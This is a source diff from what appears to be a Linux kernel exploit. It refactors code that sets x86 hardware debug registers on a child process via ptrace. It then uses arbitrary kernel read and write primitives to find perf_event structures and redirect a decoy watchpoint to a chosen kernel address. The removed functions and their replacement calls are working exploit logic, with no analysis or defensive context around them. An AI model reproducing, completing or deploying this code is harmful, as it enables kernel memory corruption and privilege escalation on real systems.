@@ -16,6 +16,7 @@
 #include <unistd.h>
 
 #include "attack.h"
+#include "breakpoint.h"
 #include "list.h"
 #include "objects.h"
 
@@ -24,13 +25,8 @@
 
 #define CHILD_CPU	1
 #define CHILD_PART	0x60
-#define TASK_WORDS	2048		/* at most */
-#define EVENT_SIZE	2048		/* struct perf_event, at most */
 #define SECONDS		10
 #define ROOT_SECONDS	4		/* it lands in the first one, if it does */
-
-/* In struct user, whose header has a PAGE_SIZE of its own */
-#define USER_DEBUGREG	848
 
 /* DR7 for DR0: enabled for this task, and what it watches */
 #define DR7_ENABLE	1UL
@@ -101,46 +97,12 @@ static pid_t start_child(child_function *run, volatile char *page)
 		run(page);
 }
 
-static bool poke(pid_t pid, int reg, uint64_t value)
-{
-	return !ptrace(PTRACE_POKEUSER, pid, USER_DEBUGREG + reg * sizeof(value), value);
-}
-
-static int move_in_event(uint64_t event, uint64_t from, uint64_t to)
-{
-	uint64_t at;
-	int nr = 0;
-
-	while ((at = find_word(event, EVENT_SIZE, from))) {
-		if (kwrite64(at, to))
-			return 0;
-		nr++;
-	}
-	return nr;
-}
-
-/* The events that the task points to: those of ptrace() are among them. */
-static int move_watchpoint(pid_t pid, uint64_t from, uint64_t to)
-{
-	static uint64_t words[TASK_WORDS];
-	struct task task;
-	int nr = 0;
-	size_t i;
-
-	if (ktask(pid, &task) || kread(task.task, words, sizeof(words)))
-		return 0;
-	for (i = 0; i < TASK_WORDS; i++)
-		if (is_kernel_address(words[i]))
-			nr += move_in_event(words[i], from, to);
-	return nr;
-}
-
 /* The child has a watchpoint there when it goes on. */
 static bool watch(pid_t pid, uint64_t dr7, uint64_t at)
 {
 	uint64_t decoy = (uint64_t)&child->watched;
 
-	return poke(pid, 0, decoy) && poke(pid, 7, dr7) && move_watchpoint(pid, decoy, at);
+	return breakpoint_set(pid, dr7, decoy) && breakpoint_move(pid, decoy, at);
 }
 
 static void stop(pid_t pid)
